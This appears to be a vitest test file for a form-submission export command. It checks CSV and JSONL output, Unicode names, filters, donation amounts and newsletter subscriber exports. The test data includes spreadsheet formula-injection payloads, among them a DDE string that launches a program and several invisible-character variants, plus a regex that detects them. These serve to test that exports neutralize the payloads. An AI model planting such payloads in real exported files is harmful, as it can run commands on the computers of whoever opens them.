import { describe, expect, test } from "vitest";
import { contact } from "../../../../data/forms/contact.ts";
import { usd } from "../../../../data/money.ts";
import { fieldCells } from "../../../../server/inbox/export-formats.ts";
import { entriesOf } from "../../../../server/inbox/submission-text.ts";
import type { Fields } from "../../../../src/forms/intake-contract.ts";
import { submissionFor } from "../mail/forms.ts";
import { candidate } from "../store/candidate.ts";
import { day, desk, now } from "./desk.ts";

const formulas = [
  `=HYPERLINK("https://example.org?"&A1,"Click")`,
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "\u200b=1+1",
  "\ufeff\u2060=1+1",
  "\u00ad\u034f\u3164+1",
  "\u202e\u200f@SUM(1)",
  "\u0000\u0001-1",
];

const innocent = [
  "O'Neill",
  "a=b",
  "1-2",
  `say "hi", and\ngo`,
  "a,b;c",
  " =1",
  "'quoted'",
  "",
  "–dash",
  "\u200bword",
  "می\u200cخواهم",
];

/** Names as written, and in Unicode forms that a program might silently normalize. */
const scripts = {
  yoruba: "Ọlábísí Adébáyọ̀",
  arabic: "مريم بنت أحمد",
  hebrew: "שָׁלוֹם",
  hindi: "क्षितिज",
  thai: "นำ้ใจ",
  han: "𠮷野家 李",
  korean: "각 \u1100\u1161\u11a8",
  composed: "Zo\u00eb",
  decomposed: "Zoe\u0308",
  emoji: "👩🏾‍🌾🏳️‍🌈",
  persian: "می\u200cخواهم",
  control: "a\u0000\u001b[31m\u2028\r\n\ufeff",
  loneSurrogate: "\ud800",
  proto: "__proto__",
};

function sent(message: string) {
  return { fields: { message } };
}

/** Start of a cell that a spreadsheet can run as a formula. It skips quotes, spaces and invisible characters. */
const formulaText = /^["\s\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

/** Reads cells as a spreadsheet with this separator does. An opening quote counts only at the start of a cell. */
function cellsOf(text: string, separator: string): string[] {
  const cells = [""];
  let [isQuoted, atStart] = [false, true];
  for (const character of text.slice(1)) {
    if (character === '"' && (isQuoted || atStart)) isQuoted = !isQuoted;
    else if (!isQuoted && (character === separator || /[\r\n]/.test(character))) cells.push("");
    else cells[cells.length - 1] += character;
    atStart = cells.at(-1) === "" && !isQuoted;
  }
  return cells;
}

describe("csv", () => {
  test.each(formulas)("exports %j as text", async (formula) => {
    const { rows } = await desk([sent(formula)]);
    const [row] = await rows();
    expect(row?.message).toBe(`'${formula}`.replace(/(?<=[\t\r\n])/, "'"));
  });

  test.each(innocent)("exports %j unchanged", async (text) => {
    const { rows } = await desk([sent(text)]);
    const [row] = await rows();
    expect(row?.message).toBe(text);
  });

  test("has no formula where a spreadsheet separates cells at semicolons or tabs", async () => {
    const texts = [";", "; ", ';"', ';"" \'', "\t", "\n", "\r\n", ";;\n \u200b"].flatMap((before) =>
      [...formulas, "=1", "-1"].map((formula) => `a${before}${formula}`),
    );
    const { inbox } = await desk(texts.map(sent));
    const { out } = await inbox("export");
    for (const separator of [";", "\t"])
      expect(cellsOf(out, separator).filter((cell) => formulaText.test(cell))).toEqual([]);
  });

  test("joins multiple choices in one cell and keeps a list in jsonl", async () => {
    const interest = ["circles", "ceu"];
    const { inbox, rows } = await desk([
      { form: "waitlist", fields: { interest } },
      { form: "waitlist", fields: { interest: ["=1"] } },
    ]);
    const exported = await rows();
    expect(exported.map((row) => row.interest).toSorted()).toEqual(["'=1", "circles, ceu"]);
    expect((await inbox("export", "--format", "jsonl")).out).toContain('"interest":["circles","ceu"]');
  });

  test("starts with a byte order mark and has a column for each field", async () => {
    const fields: Fields = { message: "Hi", lastName: "Ọlábísí" };
    const { inbox } = await desk([{ reference: "KG-AMA22222", fields }]);
    const names = contact.fields.map(({ name }) => name);
    const { out } = await inbox("export", "--format", "csv", "--form", "contact");
    expect(out).toBe(
      "\ufeffreference,form,received_eastern,received_utc,state,page,answered_eastern,answered_by,withdrawn_eastern," +
        `${names.join()}\r\n` +
        "KG-AMA22222,contact,2026-11-21 12:00:00,2026-11-21T17:00:00.000Z,received,,,,," +
        `${names.map((name) => fields[name] ?? "").join()}\r\n`,
    );
  });

  test("marks a submission as withdrawn if its sender withdrew it", async () => {
    const { store, rows } = await desk([{ id: "taken-back", fields: { message: "Hi" } }]);
    await store.withdraw("taken-back", [], now);
    const [row] = await rows();
    expect(row).toMatchObject({ withdrawn_eastern: "2026-11-21 12:00:00", message: "" });
  });

  test("keeps the column order and includes former fields", async () => {
    const columns = async (...fields: Fields[]) => {
      const { inbox } = await desk(fields.map((each) => ({ fields: each })));
      return (await inbox("export", "--format", "csv")).out.split("\r\n")[0];
    };
    const usual = await columns();
    expect(await columns({ message: "Hi" }, { email: "ama@example.org" })).toBe(usual);
    expect(await columns({ toString: "x", fax: "1" }, { fax: "2" })).toBe(`${usual},fax,toString`);
    const names = usual?.split(",") ?? [];
    expect(new Set(names).size).toBe(names.length);
  });

  test("filters by form, state, and date, oldest first", async () => {
    const { rows } = await desk([
      { reference: "KG-22222222", receivedAt: now },
      { reference: "KG-33333333", receivedAt: now - 2 * day },
      { reference: "KG-44444444", form: "sponsor", state: "quarantined" },
    ]);
    const exported = async (...args: string[]) => (await rows(...args)).map(({ reference }) => reference);
    expect(await exported("--form", "contact")).toEqual(["KG-33333333", "KG-22222222"]);
    expect(await exported("--since", "2026-11-20", "--state", "received")).toEqual(["KG-22222222"]);
    expect(await exported("--state", "quarantined")).toEqual(["KG-44444444"]);
  });
});

test("exports all submissions to jsonl in every script", async () => {
  const fields = { ...scripts, consent: true, seats: 3 };
  const { inbox, store } = await desk([{ fields }, sent("two")]);
  const lines = (await inbox("export", "--format", "jsonl")).out.trimEnd().split("\n");
  const read = lines.map((line) => JSON.parse(line));
  const stored = (await store.list()).map((each) => ({ ...each, receivedAt: new Date(each.receivedAt).toISOString() }));
  expect(read).toEqual(expect.arrayContaining(stored));
  const back = read.find(({ fields }) => fields.yoruba).fields;
  expect(JSON.stringify(back)).toBe(JSON.stringify(fields));
});

test("exports all pages of results", async () => {
  const { inbox, store } = await desk();
  await Promise.all(
    Array.from({ length: 450 }, () => store.accept(candidate({ fields: { message: "x".repeat(400) } }))),
  );
  const { out } = await inbox("export", "--format", "jsonl");
  expect(
    new Set(
      out
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).size,
  ).toBe(450);
});

const gift = {
  ...submissionFor("receipt"),
  form: "donation",
  fields: { amount: usd(1250.5), rhythm: "monthly" },
} as const;

test("shows amounts as dollars and exports them as numbers", () => {
  expect(entriesOf(gift)).toContainEqual(["Your gift in US dollars", "$1,250.50"]);
  expect(fieldCells(gift, ["amount", "rhythm", "honoree"])).toEqual([1250.5, "monthly", undefined]);
});

test("keeps a number of the same name in another form unchanged", () => {
  expect(fieldCells({ ...gift, form: "contact" }, ["amount"])).toEqual([125_050]);
});

const minute = 60_000;
const asked = (address: string) =>
  ({ form: "newsletter", fields: { email: address }, page: "/academy", receivedAt: now - minute }) as const;

async function newsletter() {
  const made = await desk(["ama@example.org", "kofi@example.org", "zoe@example.org"].map(asked));
  await made.store.setSubscription({ address: "ama@example.org", state: "confirmed", changedAt: now });
  await made.store.setSubscription({ address: "kofi@example.org", state: "unsubscribed", changedAt: now });
  return made;
}

test("exports confirmed addresses with page and times of request and confirmation", async () => {
  const { inbox, rows } = await newsletter();
  expect(await rows("--subscribers")).toEqual([
    {
      address: "ama@example.org",
      state: "confirmed",
      asked_eastern: "2026-11-21 11:59:00",
      page: "/academy",
      changed_eastern: "2026-11-21 12:00:00",
    },
  ]);
  expect(JSON.parse((await inbox("export", "--format", "jsonl", "--subscribers", "unsubscribed")).out)).toEqual({
    address: "kofi@example.org",
    state: "unsubscribed",
    page: "/academy",
    askedAt: "2026-11-21T16:59:00.000Z",
    changedAt: "2026-11-21T17:00:00.000Z",
  });
});

test("exports newsletter forms with the current state of each address", async () => {
  const { inbox, rows } = await newsletter();
  const exported = await rows("--form", "newsletter");
  const states = ["confirmed", "not confirmed", "unsubscribed"];
  expect(exported.map(({ newsletter }) => newsletter).toSorted()).toEqual(states);
  const ama = exported.find(({ email }) => email === "ama@example.org");
  expect(ama).toMatchObject({ newsletter: "confirmed", page: "/academy" });
  const lines = (await inbox("export", "--format", "jsonl", "--form", "newsletter")).out.trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line).newsletter).toSorted()).toEqual(states);
  expect((await inbox("export")).out.split("\r\n")[0]).not.toContain("newsletter");
});
